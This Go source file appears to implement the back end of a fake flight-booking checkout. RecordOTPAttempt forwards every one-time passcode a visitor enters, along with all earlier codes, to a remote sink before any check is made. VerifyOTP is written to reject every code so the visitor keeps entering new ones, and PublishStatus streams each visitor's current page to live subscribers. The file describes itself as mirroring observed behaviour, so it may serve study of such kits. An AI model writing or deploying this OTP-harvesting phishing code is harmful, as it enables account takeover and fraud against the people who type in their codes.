package activities

import (
	"context"
	"math/rand"
	"sync"
	"time"

	"github.com/skyfare/booking-wizard/internal/confirmation"
	"github.com/skyfare/booking-wizard/internal/models"
	"github.com/skyfare/booking-wizard/internal/sink"
	"github.com/skyfare/booking-wizard/pkg/logger"
)

// Archiver persists terminal confirmations. Nil-safe: deployments without
// a database simply skip archiving.
type Archiver interface {
	ArchiveConfirmation(ctx context.Context, b *models.BookingConfirmation) error
}

// StatusBroadcaster pushes checkout status transitions to live subscribers.
type StatusBroadcaster interface {
	BroadcastStatus(sessionID string, status models.CheckoutStatus)
}

// Activities holds the checkout workflow's side effects. The sink writes
// are best-effort by contract: errors are logged and swallowed so the flow
// never blocks or retries on sink failure.
type Activities struct {
	sink      sink.Sink
	archive   Archiver
	broadcast StatusBroadcaster
	log       logger.Logger

	mu  sync.Mutex
	rng *rand.Rand
}

func NewActivities(s sink.Sink, archive Archiver, broadcast StatusBroadcaster, log logger.Logger) *Activities {
	return &Activities{
		sink:      s,
		archive:   archive,
		broadcast: broadcast,
		log:       log,
		rng:       rand.New(rand.NewSource(time.Now().UnixNano())),
	}
}

// PublishStatusInput reports a checkout status transition.
type PublishStatusInput struct {
	SessionID string                `json:"sessionId"`
	VisitorID string                `json:"visitorId"`
	Status    models.CheckoutStatus `json:"status"`
}

// PublishStatus mirrors the current status to the sink document and to live
// subscribers.
func (a *Activities) PublishStatus(ctx context.Context, input PublishStatusInput) error {
	if a.broadcast != nil {
		a.broadcast.BroadcastStatus(input.SessionID, input.Status)
	}
	err := a.sink.Write(ctx, input.VisitorID, sink.Document{
		"status":   string(input.Status),
		"pagename": string(input.Status),
	})
	if err != nil {
		a.log.Warn("sink status write failed", "sessionId", input.SessionID, "error", err)
	}
	return nil
}

// RecordOTPAttemptInput carries one entered passcode plus the accumulated
// history of every code entered so far in the session.
type RecordOTPAttemptInput struct {
	SessionID string   `json:"sessionId"`
	VisitorID string   `json:"visitorId"`
	Code      string   `json:"code"`
	AllCodes  []string `json:"allCodes"`
}

// RecordOTPAttempt forwards the attempt to the sink before any verification
// happens. This mirrors the observed behavior exactly and is deliberately
// unconditional; see DESIGN.md before changing it.
func (a *Activities) RecordOTPAttempt(ctx context.Context, input RecordOTPAttemptInput) error {
	err := a.sink.Write(ctx, input.VisitorID, sink.Document{
		"otp":     input.Code,
		"allOtps": input.AllCodes,
	})
	if err != nil {
		a.log.Warn("sink otp write failed", "sessionId", input.SessionID, "error", err)
	}
	return nil
}

// VerifyOTPInput carries the code under verification.
type VerifyOTPInput struct {
	SessionID string `json:"sessionId"`
	Code      string `json:"code"`
	Attempt   int    `json:"attempt"`
}

// VerifyOTPResult never reports success: the verification stub fails every
// code by design. Retryable per attempt, unwinnable overall.
type VerifyOTPResult struct {
	Valid bool   `json:"valid"`
	Error string `json:"error"`
}

// VerifyOTP rejects every code.
func (a *Activities) VerifyOTP(ctx context.Context, input VerifyOTPInput) (*VerifyOTPResult, error) {
	a.log.Info("Verifying OTP", "sessionId", input.SessionID, "attempt", input.Attempt)

	return &VerifyOTPResult{
		Valid: false,
		Error: "The verification code is incorrect. Please try again.",
	}, nil
}

// ConfirmBookingInput assembles the terminal confirmation record.
type ConfirmBookingInput struct {
	SessionID  string                   `json:"sessionId"`
	VisitorID  string                   `json:"visitorId"`
	FlightID   string                   `json:"flightId"`
	Criteria   models.SearchCriteria    `json:"criteria"`
	Seats      []string                 `json:"seats"`
	Passengers []models.PassengerRecord `json:"passengers"`
	Price      models.PriceBreakdown    `json:"price"`
}

// ConfirmBooking generates the booking reference, archives the terminal
// record when an archive is configured, and reports it to the sink.
func (a *Activities) ConfirmBooking(ctx context.Context, input ConfirmBookingInput) (*models.BookingConfirmation, error) {
	a.mu.Lock()
	ref := confirmation.NewBookingRef(input.FlightID, a.rng)
	a.mu.Unlock()

	booking := &models.BookingConfirmation{
		BookingRef: ref,
		FlightID:   input.FlightID,
		Criteria:   input.Criteria,
		Seats:      input.Seats,
		Passengers: input.Passengers,
		Price:      input.Price,
		CreatedAt:  time.Now().UTC(),
	}

	if a.archive != nil {
		if err := a.archive.ArchiveConfirmation(ctx, booking); err != nil {
			a.log.Error("failed to archive confirmation", "bookingRef", ref, "error", err)
		}
	}

	if err := a.sink.Write(ctx, input.VisitorID, sink.Document{
		"bookingRef": ref,
		"status":     string(models.CheckoutStatusConfirmed),
	}); err != nil {
		a.log.Warn("sink confirmation write failed", "sessionId", input.SessionID, "error", err)
	}

	a.log.Info("booking confirmed", "sessionId", input.SessionID, "bookingRef", ref)
	return booking, nil
}
